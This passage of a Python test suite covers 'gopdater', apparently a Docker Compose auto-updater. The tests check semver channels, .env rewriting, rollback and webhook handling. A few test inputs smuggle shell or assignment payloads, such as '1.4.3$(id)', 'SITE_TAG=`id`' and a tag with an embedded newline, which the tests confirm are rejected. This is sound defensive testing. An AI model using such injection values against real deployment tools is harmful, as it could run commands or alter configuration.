TRACKED_VERSIONS = ("1.4.3", "1.4.4", "1.5.0", "1.6.0", "2.0.0", "1.3.9", "1.5.0-rc.1")


class VersionRulesTest(unittest.TestCase):
    def test_versions_are_read_as_semver_with_a_v_and_build_metadata_ignored(self):
        """parse_version: three numbers, an optional v, a pre-release kept, build metadata dropped, junk None."""
        V = gopdater.Version
        cases = [("1.4.3", V(1, 4, 3)), ("v1.4.3", V(1, 4, 3)), ("1.5.0-rc.1", V(1, 5, 0, ("rc", "1"))),
                 ("1.4.3+build.7", V(1, 4, 3)), ("10.20.30", V(10, 20, 30)), ("1.4", None), ("latest", None),
                 ("01.4.3", None), ("1.4.3-rc.01", None), ("V1.4.3", None), ("1.4.3.1", None), ("", None)]
        for tag, expected in cases:
            with self.subTest(tag=tag):
                self.assertEqual(gopdater.parse_version(tag), expected)

    def test_versions_order_as_semver_precedence_says(self):
        """A pre-release before its release; numeric identifiers by value, below alphanumeric ones."""
        ordered = ["1.0.0-alpha", "1.0.0-alpha.1", "1.0.0-alpha.beta", "1.0.0-beta", "1.0.0-beta.2",
                   "1.0.0-beta.11", "1.0.0-rc.1", "1.0.0", "1.0.1", "1.2.0", "1.10.0", "2.0.0"]
        keys = [gopdater.parse_version(tag).precedence() for tag in ordered]
        self.assertEqual(keys, sorted(keys))
        self.assertEqual(len(set(keys)), len(keys))
        self.assertEqual(gopdater.parse_version("v1.2.3").precedence(), gopdater.parse_version("1.2.3").precedence())

    def test_each_channel_takes_only_newer_releases_within_it(self):
        """channel_verdict as a table: newer, within the channel, never a pre-release; else why not."""
        P, m, M = gopdater.Channel.PATCH, gopdater.Channel.MINOR, gopdater.Channel.MAJOR
        cases = [
            (m, "1.4.2", "1.4.3", None), (m, "1.4.2", "1.5.0", None), (m, "1.4.2", "v1.9.0", None),
            (m, "1.4.2", "2.0.0", "2.0.0 is outside its minor channel from 1.4.2"),
            (m, "1.4.2", "1.3.9", "1.3.9 is not newer than 1.4.2"),
            (m, "1.4.2", "1.4.2", "1.4.2 is not newer than 1.4.2"),
            (m, "1.4.2", "1.5.0-rc.1", "1.5.0-rc.1 is a pre-release"),
            (P, "1.4.2", "1.4.10", None), (P, "1.4.2", "1.5.0", "1.5.0 is outside its patch channel from 1.4.2"),
            (M, "1.4.2", "2.0.0", None), (M, "1.4.2", "1.4.1", "1.4.1 is not newer than 1.4.2"),
            (M, "1.5.0-rc.1", "1.5.0", None), (M, "v1.4.2", "1.4.2", "1.4.2 is not newer than v1.4.2"),
            (m, "1.4.2", "latest", "latest is not a semantic version"),
            (m, "latest", "1.4.3", "its tag latest is not a semantic version"),
        ]
        for channel, current, pushed, expected in cases:
            with self.subTest(channel=channel.value, current=current, pushed=pushed):
                self.assertEqual(gopdater.channel_verdict(channel, current, pushed), expected)

    def test_a_burst_of_versions_coalesces_to_the_newest(self):
        """newer_tag keeps the later version; anything not a version keeps the first."""
        for first, second, expected in [("1.4.3", "1.4.4", "1.4.4"), ("1.4.4", "1.4.3", "1.4.4"),
                                        ("latest", "1.4.4", "latest"), ("1.4.3", "latest", "1.4.3")]:
            with self.subTest(first=first, second=second):
                self.assertEqual(gopdater.newer_tag(first, second), expected)

    def test_the_tag_must_be_one_variable_in_the_compose_file(self):
        """tag_variable: ${X}, ${X:-d}, ${X-d}, ${X:?e}, $X name the variable; a literal tag or a digest says
        how to fix the file."""
        cases = [("acme/site:${SITE_TAG}", "SITE_TAG"), ("acme/site:${SITE_TAG:-1.4.2}", "SITE_TAG"),
                 ("acme/site:${SITE_TAG-1.4.2}", "SITE_TAG"), ("acme/site:${SITE_TAG:?set it}", "SITE_TAG"),
                 ("127.0.0.1:5000/site:$TAG", "TAG"), ("${REGISTRY:-ghcr.io}/acme/site:${T}", "T")]
        for raw, variable in cases:
            with self.subTest(raw=raw):
                self.assertEqual(gopdater.tag_variable(raw, "site"), (variable, None))
        refused = [("acme/site:1.4.2", "write image: acme/site:${MY_WEB_TAG} and put MY_WEB_TAG=1.4.2 in the "
                                       "project's .env"),
                   ("acme/site", "write image: acme/site:${MY_WEB_TAG} and put MY_WEB_TAG=latest"),
                   ("acme/site:${MAJOR}.${MINOR}", "gopdater never edits YAML"),
                   ("acme/site@sha256:" + "a" * 64, "pinned by digest"), ("", "not named in the Compose file")]
        for raw, fix in refused:
            with self.subTest(raw=raw):
                variable, problem = gopdater.tag_variable(raw, "my-web")
                self.assertIsNone(variable)
                self.assertIn(fix, problem)

    def test_compose_v1s_yaml_gives_each_services_raw_image(self):
        """raw_images_from_yaml reads `docker-compose config --no-interpolate` (quoted or not)."""
        text = ("networks:\n  image:\n    image: not-a-service\nservices:\n  web:\n    image: acme/site:${SITE_TAG}\n"
                "    labels:\n      image: no\n  'api':\n    image: 'acme/api:$API_TAG'\nversion: '3.9'\n")
        self.assertEqual(gopdater.raw_images_from_yaml(text), {"web": "acme/site:${SITE_TAG}",
                                                               "api": "acme/api:$API_TAG"})


class EnvRewriteTest(unittest.TestCase):
    def test_only_the_variables_value_changes(self):
        """rewrite_env keeps comments, quoting, export, CRLF, spacing and every other line as they were."""
        cases = [
            ("SITE_TAG=1.4.2\n", "SITE_TAG=1.4.3\n"),
            ("# the site\nSITE_TAG=1.4.2 # pinned\nOTHER=x\n", "# the site\nSITE_TAG=1.4.3 # pinned\nOTHER=x\n"),
            ('SITE_TAG="1.4.2"\n', 'SITE_TAG="1.4.3"\n'), ("SITE_TAG='1.4.2'\n", "SITE_TAG='1.4.3'\n"),
            ("export SITE_TAG=1.4.2\n", "export SITE_TAG=1.4.3\n"), ("  SITE_TAG = 1.4.2\n", "  SITE_TAG = 1.4.3\n"),
            ("A=1\r\nSITE_TAG=1.4.2\r\nB=2\r\n", "A=1\r\nSITE_TAG=1.4.3\r\nB=2\r\n"),
            ("A=1\nSITE_TAG=1.4.2", "A=1\nSITE_TAG=1.4.3"),
            ("SITE_TAG=1.4.1\nA=1\nSITE_TAG=1.4.2\n", "SITE_TAG=1.4.3\nA=1\nSITE_TAG=1.4.3\n"),
            ("SITE_TAG=\n", "SITE_TAG=1.4.3\n"), ("#SITE_TAG=1.0.0\nSITE_TAGS=1\n", "#SITE_TAG=1.0.0\nSITE_TAGS=1\nSITE_TAG=1.4.3\n"),
            ("A=1", "A=1\nSITE_TAG=1.4.3\n"), ("A=1\r\nB=2", "A=1\r\nB=2\r\nSITE_TAG=1.4.3\r\n"), ("", "SITE_TAG=1.4.3\n"),
            ("A=\udcff\udcfe\nSITE_TAG=1.4.2\n", "A=\udcff\udcfe\nSITE_TAG=1.4.3\n"),
        ]
        for before, after in cases:
            with self.subTest(before=before):
                self.assertEqual(gopdater.rewrite_env(before, "SITE_TAG", "1.4.3"), after)

    def test_a_definition_it_cannot_rewrite_safely_is_refused(self):
        """A value that is not a plain tag (a reference, a space, an escape, an open quote) raises ValueError."""
        for text in ["SITE_TAG=$OTHER\n", "SITE_TAG=${OTHER}\n", 'SITE_TAG="1.4.2\n', "SITE_TAG=1.4.2 more\n",
                     'SITE_TAG="a\\"b"\n', "SITE_TAG=`id`\n", "A=1\nexport SITE_TAG = 1 2\n"]:
            with self.subTest(text=text), self.assertRaisesRegex(ValueError, "SITE_TAG is defined in a form"):
                gopdater.rewrite_env(text, "SITE_TAG", "1.4.3")

    def test_the_value_read_is_the_last_definition_unquoted(self):
        """env_value: Compose's last definition wins; quotes are not part of the value."""
        for text, expected in [("SITE_TAG=1\nSITE_TAG='2'\n", "2"), ('export SITE_TAG="v1.0.0" # x\n', "v1.0.0"),
                               ("A=1\n", None), ("SITE_TAG=$X\n", None)]:
            with self.subTest(text=text):
                self.assertEqual(gopdater.env_value(text, "SITE_TAG"), expected)

    def folder(self):
        folder = tempfile.mkdtemp(prefix="gopdater-env-")
        self.addCleanup(shutil.rmtree, folder, True)
        return folder

    def test_the_file_is_replaced_atomically_keeping_its_mode(self):
        """write_env renames a finished file over the old one (a reader never sees half), keeps its mode, leaves
        no temporary file, and says the line it wrote; a file that already says so is not touched."""
        path = os.path.join(self.folder(), ".env")
        with open(path, "w") as handle:
            handle.write("# tags\nSITE_TAG=1.4.2\n")
        os.chmod(path, 0o640)
        before = os.stat(path).st_ino
        self.assertEqual(gopdater.write_env(path, "SITE_TAG", "1.4.3"), "SITE_TAG=1.4.3")
        self.assertEqual(pathlib.Path(path).read_text(), "# tags\nSITE_TAG=1.4.3\n")
        self.assertEqual(os.stat(path).st_mode & 0o777, 0o640)
        self.assertNotEqual(os.stat(path).st_ino, before, "a new file renamed over the old one")
        self.assertEqual(os.listdir(os.path.dirname(path)), [".env"])
        inode = os.stat(path).st_ino
        self.assertIsNone(gopdater.write_env(path, "SITE_TAG", "1.4.3"))
        self.assertEqual(os.stat(path).st_ino, inode)

    def editing_reader(self, edits):
        """EnvFile.read, after which someone edits the file by hand (the first `edits` reads); records each read."""
        reads = []

        def read(path):
            current = gopdater.EnvFile.read(path)
            reads.append(current.text)
            if len(reads) <= edits:
                with open(path, "a") as handle:
                    handle.write(f"# edited by hand {len(reads)}\n")
            return current
        return read, reads

    def test_an_edit_made_while_it_writes_is_kept_and_the_tag_written_on_top(self):
        """A hand edit between gopdater's read and its rename is not lost: the file is read again and the tag
        written into the edited text; no temporary file is left."""
        folder = self.folder()
        path = os.path.join(folder, ".env")
        pathlib.Path(path).write_text("SITE_TAG=1.4.2\n")
        read, reads = self.editing_reader(edits=1)
        self.assertEqual(gopdater.write_env(path, "SITE_TAG", "1.4.3", read=read), "SITE_TAG=1.4.3")
        self.assertEqual(pathlib.Path(path).read_text(), "SITE_TAG=1.4.3\n# edited by hand 1\n")
        self.assertEqual(reads, ["SITE_TAG=1.4.2\n", "SITE_TAG=1.4.2\n# edited by hand 1\n"])
        self.assertEqual(os.listdir(folder), [".env"])

    def test_a_file_that_keeps_changing_is_left_to_its_editor_with_an_error(self):
        """Edited after each of three reads: FileChanged (an OSError) naming the file; the file holds every
        edit and never gopdater's tag; no temporary file is left."""
        folder = self.folder()
        path = os.path.join(folder, ".env")
        pathlib.Path(path).write_text("SITE_TAG=1.4.2\n")
        read, reads = self.editing_reader(edits=3)
        with self.assertRaises(OSError) as raised:
            gopdater.write_env(path, "SITE_TAG", "1.4.3", read=read)
        self.assertEqual((raised.exception.filename, raised.exception.strerror),
                         (path, "kept changing while gopdater wrote it (3 attempts)"))
        self.assertEqual(len(reads), 3)
        self.assertEqual(pathlib.Path(path).read_text(), "SITE_TAG=1.4.2\n" + "".join(
            f"# edited by hand {n}\n" for n in (1, 2, 3)))
        self.assertEqual(os.listdir(folder), [".env"])

    def test_a_link_or_a_huge_file_is_never_written_through(self):
        """An env file that is a symbolic link (to a file elsewhere), or not a regular file, is refused and its
        target left as it was."""
        folder = self.folder()
        target = os.path.join(folder, "elsewhere")
        with open(target, "w") as handle:
            handle.write("SITE_TAG=1.4.2\n")
        os.symlink(target, os.path.join(folder, ".env"))
        os.mkfifo(os.path.join(folder, "fifo"))
        for name in (".env", "fifo"):
            with self.subTest(name=name), self.assertRaises(OSError):
                gopdater.write_env(os.path.join(folder, name), "SITE_TAG", "1.4.3")
        self.assertEqual(pathlib.Path(target).read_text(), "SITE_TAG=1.4.2\n")
        self.assertTrue(os.path.islink(os.path.join(folder, ".env")))

    def test_a_missing_file_is_made_with_the_one_line(self):
        """With only a default in the Compose file, the .env is created holding the variable (mode 0644)."""
        path = os.path.join(self.folder(), ".env")
        self.assertEqual(gopdater.write_env(path, "SITE_TAG", "1.4.3"), "SITE_TAG=1.4.3")
        self.assertEqual(pathlib.Path(path).read_text(), "SITE_TAG=1.4.3\n")
        self.assertEqual(os.stat(path).st_mode & 0o777, 0o644)


class TrackedComposeTest(unittest.TestCase):
    """A service on acme/site:${SITE_TAG} with SITE_TAG=1.4.2 in its .env, tracking minor, beside an untracked
    service on acme/site:1.4.2."""

    def rig(self, env_text="# tags\nSITE_TAG=1.4.2\n", label="minor", compose=("docker", "compose"),
            raw=SITE_RAW, started_with=None, **env):
        root = tempfile.mkdtemp(prefix="gopdater-track-")
        self.addCleanup(shutil.rmtree, root, True)
        fake = FakeDocker(services={"site": "acme/site:1.4.2", "pinned": "acme/site:1.4.2"}, root=root,
                          compose=compose)
        fake.track("demo", "site", raw, env_text, label, TRACKED_VERSIONS)
        if started_with:
            fake.labels[("demo", "site")] = {"com.docker.compose.project.environment_file": started_with}
        return Rig(self, fake, COMPOSE_COMMAND=" ".join(compose), **env)

    def check(self, rig, **env):
        """--check on the rig's project, run as from its folder."""
        return check(self, rig.fake, COMPOSE_FILE=os.path.join(rig.fake.root, "demo", "compose.yaml"), **env)

    def env(self, rig):
        return rig.fake.env_text("demo")

    def push(self, rig, tag):
        """A Docker Hub push of acme/site:<tag> through the App: (status, reply)."""
        body = payload("dockerhub-push.json")
        body["push_data"]["tag"] = tag
        status, reply, _ = rig.post(f"/hooks/{SECRET}", body)
        return status, reply

    def deploy(self, rig, tag):
        with self.assertLogs("gopdater", "INFO"):
            status, reply = self.push(rig, tag)
            self.assertEqual(status, 202, reply)
            rig.start_worker()
            self.assertTrue(rig.queue.wait_idle(10))
        return rig.queue.views()[0]

    def running(self, rig, service="site"):
        return sorted(c["ref"] for c in rig.fake.containers.values() if c["service"] == service)

    def test_a_newer_version_in_the_channel_is_pulled_written_and_run(self):
        """1.4.3 pushed: `docker pull acme/site:1.4.3`, SITE_TAG=1.4.3 in .env (the comment kept), then the
        service replaced as any update; the old version keeps its tag and image; the view shows both tags."""
        rig = self.rig()
        old = next(c["name"] for c in rig.fake.containers.values() if c["service"] == "site")
        view = self.deploy(rig, "1.4.3")
        self.assertEqual(view["state"], "updated", view)
        self.assertEqual((view["old_tag"], view["new_tag"]), ("1.4.2", "1.4.3"))
        self.assertEqual(deployment_calls(rig.fake.mutating_calls()), [
            ["docker", "pull", "acme/site:1.4.3"], ["docker", "stop", "-t", "10", old], ["docker", "rm", old],
            ["docker", "compose", "up", "-d", "--no-deps", "site"]])
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.4.3\n")
        self.assertEqual(self.running(rig), ["acme/site:1.4.3"])
        self.assertEqual(self.running(rig, "pinned"), ["acme/site:1.4.2"], "the untracked service never moves")
        self.assertEqual(rig.fake.images["acme/site:1.4.2"], OLD_ID)
        self.assertEqual([s["step"] for s in rig.queue.views()[0]["steps"]][:5],
                         ["inspect", "pull", "compare", "set-tag", "stop"])

    def test_pushes_outside_the_channel_are_ignored_with_the_reason(self):
        """2.0.0, 1.3.9, 1.4.2 and 1.5.0-rc.1 are answered 200 ignored, naming why; nothing runs or is written."""
        rig = self.rig()
        cases = [("2.0.0", "demo/site: 2.0.0 is outside its minor channel from 1.4.2"),
                 ("1.3.9", "demo/site: 1.3.9 is not newer than 1.4.2"),
                 ("1.5.0-rc.1", "demo/site: 1.5.0-rc.1 is a pre-release"),
                 ("nightly", "demo/site: nightly is not a semantic version")]
        for tag, reason in cases:
            with self.subTest(tag=tag):
                self.assertEqual(self.push(rig, tag), (200, {"status": "ignored", "reason": reason}))
        self.assertEqual(rig.queue.queued(), 0)
        self.assertEqual(rig.fake.mutating_calls(), [])
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.4.2\n")

    def test_the_untracked_service_on_the_same_image_takes_only_its_own_tag(self):
        """A push of 1.4.2 updates the pinned service alone (the tracked one is on 1.4.2: not newer)."""
        rig = self.rig()
        status, reply = self.push(rig, "1.4.2")
        self.assertEqual((status, reply["services"]), (202, ["demo/pinned"]))

    def test_a_broken_version_is_rolled_back_and_the_file_says_the_old_tag_again(self):
        """1.6.0 crashes: rolled back to 1.5.0 with SITE_TAG=1.5.0 again; the tag 1.6.0 is never pointed at the
        old image (the rollback tags only the old reference); a replay of 1.6.0 is skipped."""
        rig = self.rig()
        self.assertEqual(self.deploy(rig, "1.5.0")["state"], "updated")
        rig.fake.behaviour[rig.fake.registry["acme/site:1.6.0"]] = "crash"
        rig.fake.calls.clear()
        view = self.deploy(rig, "1.6.0")
        self.assertEqual(view["state"], "rolled-back", view)
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.5.0\n")
        self.assertEqual(self.running(rig), ["acme/site:1.5.0"])
        tags = [c for c in rig.fake.calls if c[1:2] == ["tag"]]
        self.assertEqual(tags, [["docker", "tag", rig.fake.registry["acme/site:1.5.0"], "acme/site:1.5.0"]])
        self.assertEqual(rig.fake.images["acme/site:1.6.0"], rig.fake.registry["acme/site:1.6.0"])
        with self.assertLogs("gopdater", "INFO"):
            self.push(rig, "1.6.0")
            self.assertTrue(rig.queue.wait_idle(10))
        self.assertEqual(rig.queue.views()[0]["state"], "skipped")
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.5.0\n")

    def test_a_failed_pull_touches_nothing(self):
        """A tag the registry does not have: failed at the pull; the .env and the container are as they were."""
        rig = self.rig()
        del rig.fake.registry["acme/site:1.4.3"]
        view = self.deploy(rig, "1.4.3")
        self.assertEqual(view["state"], "failed")
        self.assertIn("pull failed", view["error"])
        self.assertEqual(rig.fake.mutating_calls(), [["docker", "pull", "acme/site:1.4.3"]])
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.4.2\n")

    def test_an_env_file_that_cannot_be_written_fails_before_anything_is_switched(self):
        """The write fails (a folder made read-only after start-up): failed, the old container kept serving."""
        rig = self.rig()
        folder = os.path.join(rig.fake.root, "demo")
        with mock.patch.object(gopdater, "write_env", side_effect=PermissionError(13, "Permission denied")):
            view = self.deploy(rig, "1.4.3")
        self.assertEqual(view["state"], "failed")
        self.assertIn(f"{folder}/.env cannot be written: Permission denied", view["error"])
        self.assertFalse([c for c in rig.fake.mutating_calls() if c[1] in ("stop", "rm") or "up" in c])
        self.assertEqual(self.running(rig), ["acme/site:1.4.2"])

    def test_a_burst_of_versions_runs_once_to_the_newest_and_a_replay_never_moves_back(self):
        """1.4.3 and 1.4.4 queued together run as one deployment to 1.4.4; 1.4.3 replayed later is ignored."""
        rig = self.rig()
        with self.assertLogs("gopdater", "INFO"):
            first, second = self.push(rig, "1.4.3"), self.push(rig, "1.4.4")
            self.assertEqual(first[1]["id"], second[1]["id"])
            rig.start_worker()
            self.assertTrue(rig.queue.wait_idle(10))
        self.assertEqual(rig.queue.views()[0]["new_tag"], "1.4.4")
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.4.4\n")
        self.assertEqual(self.push(rig, "1.4.3"), (200, {"status": "ignored",
                                                         "reason": "demo/site: 1.4.3 is not newer than 1.4.4"}))

    def test_a_push_matched_before_the_service_moved_on_is_skipped_when_it_runs(self):
        """The channel is judged again when the deployment runs: a queued 1.4.3 behind an applied 1.5.0 is
        skipped, and the .env keeps 1.5.0."""
        rig = self.rig()
        rig.queue.submit(gopdater.PushEvent("dockerhub", ImageKey("docker.io", "acme/site", "1.4.3")))
        self.assertIsNotNone(tracking_of(rig.project, "site"))  # tracked, as read at start
        with open(os.path.join(rig.fake.root, "demo", ".env"), "w") as handle:
            handle.write("SITE_TAG=1.5.0\n")
        for c in list(rig.fake.containers.values()):
            if c["service"] == "site":
                del rig.fake.containers[c["id"]]
        rig.fake.images["acme/site:1.5.0"] = rig.fake.registry["acme/site:1.5.0"]
        rig.fake.create("demo", "site")
        with self.assertLogs("gopdater", "INFO"):
            rig.queue.run_next()
        view = rig.queue.views()[0]
        self.assertEqual((view["state"], view["error"]), ("skipped", "1.4.3 is not newer than 1.5.0"))
        self.assertEqual(self.env(rig), "SITE_TAG=1.5.0\n")

    def test_compose_v1_reads_the_label_from_containers_and_the_raw_image_from_yaml(self):
        """docker-compose 1.29: the same update, the raw image from `config --no-interpolate` YAML."""
        root = tempfile.mkdtemp(prefix="gopdater-track-")
        self.addCleanup(shutil.rmtree, root, True)
        fake = FakeDocker(services={"site": "acme/site:1.4.2"}, root=root, compose=("docker-compose",))
        fake.track("demo", "site", SITE_RAW, "# tags\nSITE_TAG=1.4.2\n", "minor", TRACKED_VERSIONS)
        rig = Rig(self, fake, COMPOSE_COMMAND="docker-compose")  # the fake answers v1 with YAML alone
        self.assertEqual(tracking_of(rig.project, "site").variable, "SITE_TAG")
        view = self.deploy(rig, "1.4.3")
        self.assertEqual((view["state"], self.env(rig)), ("updated", "# tags\nSITE_TAG=1.4.3\n"))

    def test_a_file_compose_v1_cannot_read_uninterpolated_costs_only_the_tracking(self):
        """`docker-compose config --no-interpolate` fails (v1 validates ports before filling variables in):
        gopdater starts, the service does not follow versions, and --check says why."""
        root = tempfile.mkdtemp(prefix="gopdater-track-")
        self.addCleanup(shutil.rmtree, root, True)
        fake = FakeDocker(services={"site": "acme/site:1.4.2"}, root=root, compose=("docker-compose",))
        fake.track("demo", "site", SITE_RAW, "SITE_TAG=1.4.2\n", "minor", TRACKED_VERSIONS)
        fake.fail[("docker-compose", "config", "--no-interpolate")] = (
            1, "ERROR: The Compose file is invalid because: services.site.ports is invalid")
        rig = Rig(self, fake, COMPOSE_COMMAND="docker-compose")
        problem = tracking_of(rig.project, "site").problem
        self.assertIn("Compose cannot read the Compose file with its variables left in", problem)
        self.assertIn("services.site.ports is invalid", problem)
        self.assertEqual(rig.project.services_for(ImageKey("docker.io", "acme/site", "1.4.3")), [])
        code, out = check(self, fake, COMPOSE_COMMAND="docker-compose")
        self.assertIn("FAIL service demo/site: gopdater.track is ignored, it is left alone: Compose cannot read", out)

    def test_a_label_on_the_image_itself_does_not_make_a_v1_service_follow_versions(self):
        """Compose v1 shows an image's own labels merged in; gopdater.track from the image is ignored, and said."""
        root = tempfile.mkdtemp(prefix="gopdater-track-")
        self.addCleanup(shutil.rmtree, root, True)
        fake = FakeDocker(services={"site": "acme/site:1.4.2"}, root=root, compose=("docker-compose",))
        fake.track("demo", "site", SITE_RAW, "SITE_TAG=1.4.2\n", "major", TRACKED_VERSIONS)
        fake.file_labels.clear()  # the operator's file does not say it: the image does
        fake.image_labels[OLD_ID] = {"gopdater.track": "major"}
        rig = Rig(self, fake, COMPOSE_COMMAND="docker-compose")
        self.assertIsNone(tracking_of(rig.project, "site"))
        self.assertEqual(rig.project.services_for(ImageKey("docker.io", "acme/site", "2.0.0")), [])
        code, out = check(self, fake, COMPOSE_COMMAND="docker-compose")
        self.assertIn("warning: service demo/site: gopdater.track carried by its image, ignored", out)

    def test_a_tracked_service_that_cannot_follow_is_left_alone_and_check_says_how_to_fix_it(self):
        """A literal tag, a bad channel, the variable passed in gopdater's own environment, an unrewritable
        definition: --check fails with the fix, and no push (not even its own tag) updates the service."""
        cases = [
            ({"raw": "acme/site:1.4.2"}, "write image: acme/site:${SITE_TAG} and put SITE_TAG=1.4.2 in the project's .env"),
            ({"label": "newest"}, "gopdater.track must be patch, minor or major, not 'newest'"),
            ({"PASS_ENV": "SITE_TAG", "SITE_TAG": "1.4.2"}, "SITE_TAG is set in gopdater's own environment"),
            ({"env_text": "SITE_TAG=${BASE}\n"}, "SITE_TAG is defined in a form gopdater does not rewrite"),
            ({"started_with": "prod.env"}, "the project was started with --env-file prod.env, which gopdater does "
                                           "not read here: set PROJECTS=demo"),
        ]
        for settings, fix in cases:
            with self.subTest(settings=settings):
                rig = self.rig(**settings)
                self.assertIn(fix, tracking_of(rig.project, "site").problem)
                code, out = self.check(rig, **{k: v for k, v in settings.items() if k.isupper()})
                self.assertEqual(code, 1, out)
                self.assertIn("FAIL service demo/site: gopdater.track is ignored, it is left alone: ", out)
                for tag in ("1.4.2", "1.4.3", "2.0.0"):
                    self.assertNotIn(SITE, rig.project.services_for(ImageKey("docker.io", "acme/site", tag)))

    def test_the_status_page_shows_each_channel_and_why_a_service_follows_none(self):
        """Under a tracked service's image: the channel and its variable; under one that cannot follow, why
        (escaped); nothing under an untracked one."""
        for settings, note in [({}, "<div class=n>follows minor releases (SITE_TAG)</div>"),
                               ({"label": "<b>newest"}, "<div class=err>gopdater.track is ignored, it is left alone: "
                                                        "gopdater.track must be patch, minor or major, not "
                                                        "&#x27;&lt;b&gt;newest&#x27;</div>")]:
            with self.subTest(settings=settings):
                rig = self.rig(**settings)
                page = gopdater.status_page(rig.project.running(), [], datetime.datetime(2026, 12, 4))
                rows = {row.split("</td>")[0]: row for row in page.split("<tr><td>")[1:]}
                self.assertIn(note, rows["demo/site"])
                self.assertNotIn("<div", rows["demo/pinned"].split("</table>")[0])

    def test_a_start_first_service_takes_the_new_tag_and_a_broken_one_leaves_the_old_tag(self):
        """Start-first: the new container is created from the new tag (written first); when it fails, the old
        one serves on and the .env names the old tag again."""
        rig = self.rig()
        rig.fake.labels[("demo", "site")] = {"gopdater.order": "start-first"}
        rig = Rig(self, rig.fake, STATE_DIR=rig.state_dir)
        self.assertEqual(self.deploy(rig, "1.4.3")["state"], "updated")
        self.assertEqual((self.running(rig), self.env(rig)), (["acme/site:1.4.3"], "# tags\nSITE_TAG=1.4.3\n"))
        self.assertIn(["docker", "compose", "up", "--no-start", "--no-deps", "--no-recreate", "--scale", "site=2",
                       "site"], rig.fake.calls)
        rig.fake.behaviour[rig.fake.registry["acme/site:1.4.4"]] = "crash"
        self.assertEqual(self.deploy(rig, "1.4.4")["state"], "rolled-back")
        self.assertEqual((self.running(rig), self.env(rig)), (["acme/site:1.4.3"], "# tags\nSITE_TAG=1.4.3\n"))

    def test_a_hostile_tag_never_reaches_the_env_file(self):
        """Tags that are not Docker tags (a newline, a second assignment, a quote) are refused at the door."""
        rig = self.rig()
        for tag in ["1.4.3\nEVIL=1", "1.4.3 EVIL=1", '1.4.3"', "1.4.3#x", "-1.4.3", "1.4.3$(id)"]:
            with self.subTest(tag=tag):
                self.assertEqual(self.push(rig, tag)[0], 400)
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.4.2\n")
        self.assertEqual(rig.queue.queued(), 0)

    def test_a_variable_shared_with_a_service_that_does_not_track_is_never_rewritten(self):
        """SITE_TAG also names the tag of an untracked worker: the tracked service is left alone (rewriting
        the file would move the worker at its next compose up); both tracking minor, both follow."""
        for worker_label, problem in ((None, "SITE_TAG is also the tag of worker, which does not follow the same "
                                             "channel: label it gopdater.track: minor too"), ("minor", None)):
            with self.subTest(worker_label=worker_label):
                root = tempfile.mkdtemp(prefix="gopdater-track-")
                self.addCleanup(shutil.rmtree, root, True)
                fake = FakeDocker(services={"site": "acme/site:1.4.2", "worker": "acme/site:1.4.2"}, root=root)
                fake.track("demo", "site", SITE_RAW, "SITE_TAG=1.4.2\n", "minor", TRACKED_VERSIONS)
                fake.track("demo", "worker", SITE_RAW, "SITE_TAG=1.4.2\n", worker_label, TRACKED_VERSIONS)
                rig = Rig(self, fake)
                found = tracking_of(rig.project, "site").problem
                self.assertEqual(found if problem is None else found[:len(problem)], problem)
                refs = rig.project.services_for(ImageKey("docker.io", "acme/site", "1.4.3"))
                self.assertEqual(refs, [] if problem else [SITE, gopdater.ServiceRef("compose", "demo", "worker")])

    def test_check_names_the_channel_and_where_the_tag_is_kept(self):
        """--check: the channel, the variable and the env file it will write."""
        rig = self.rig()
        code, out = self.check(rig)
        folder = os.path.join(rig.fake.root, "demo")
        self.assertIn(f"ok   service demo/site: follows minor releases (SITE_TAG in {folder}/.env)", out)
        self.assertIn("ok   service demo/site: updates on a push of a newer minor release of docker.io/acme/site "
                      "than 1.4.2", out)

    def test_dry_run_logs_the_line_it_would_write_and_writes_nothing(self):
        """DRY_RUN=1: the pull, the env line and the replacement are logged, not done."""
        rig = self.rig(DRY_RUN=1)
        with self.assertLogs("gopdater", "INFO") as logs:
            deployment = rig.deploy("docker.io/acme/site:1.4.3")
        self.assertEqual(deployment.state, "dry-run")
        text = "\n".join(logs.output)
        self.assertIn(f"dry-run would write SITE_TAG=1.4.3 to {rig.fake.root}/demo/.env", text)
        self.assertIn("dry-run would run: docker pull acme/site:1.4.3", text)
        self.assertEqual(self.env(rig), "# tags\nSITE_TAG=1.4.2\n")

    def test_notifications_and_metrics_show_the_old_and_new_tag(self):
        """The notification carries old_tag and new_tag (and shows them); /metrics has the move."""
        rig = self.rig(NOTIFY_URL="https://hooks.example.org/x")
        self.deploy(rig, "1.4.3")
        (_, body), = rig.notices
        self.assertEqual((body["old_tag"], body["new_tag"]), ("1.4.2", "1.4.3"))
        self.assertIn(("Version", "1.4.2 -> 1.4.3"), gopdater.message_fields(body))
        self.assertIn('gopdater_last_version_move{service="demo/site",old_tag="1.4.2",new_tag="1.4.3",'
                      'result="updated"} 1', rig.metrics.render(rig.queue.queued()))


def with_tag_values(data, old, new):
    """A sample payload with every string value equal to old (its tag) made new."""
    if isinstance(data, dict):
        return {k: with_tag_values(v, old, new) for k, v in data.items()}
    if isinstance(data, list):
        return [with_tag_values(v, old, new) for v in data]
    return new if data == old else data


class TrackedSendersTest(unittest.TestCase):
    def test_every_sender_moves_a_tracked_service_by_the_tag_it_reports(self):
        """Each sender's sample, its tag made 1.4.3, queues the update of a service on 1.4.2 of that image
        tracking minor; made 2.0.0, it is answered ignored."""
        bearer = {"Authorization": f"Bearer {SECRET}"}
        cases = [  # (path, sample, parser, headers; a signature header is added for the signed ones)
            (f"/hooks/{SECRET}", "dockerhub-push.json", gopdater.parse_dockerhub, {}),
            (f"/hooks/{SECRET}/quay", "quay-repo-push.json", gopdater.parse_quay, {}),
            ("/hooks/ghcr", "ghcr-package-published.json", gopdater.parse_ghcr, {"X-GitHub-Event": "package"}),
            ("/hooks/gitea", "gitea-package-created.json", gopdater.parse_gitea, {"X-Gitea-Event": "package"}),
            ("/hooks/harbor", "harbor-push-artifact.json", gopdater.parse_harbor, bearer),
            ("/hooks/acr", "acr-push.json", gopdater.parse_acr, bearer),
            ("/hooks/registry", "distribution-events.json", gopdater.parse_distribution,
             {**bearer, "Content-Type": "application/vnd.docker.distribution.events.v1+json"}),
        ]
        for path, name, parse, hdrs in cases:
            with self.subTest(sample=name):
                sample = payload(name)
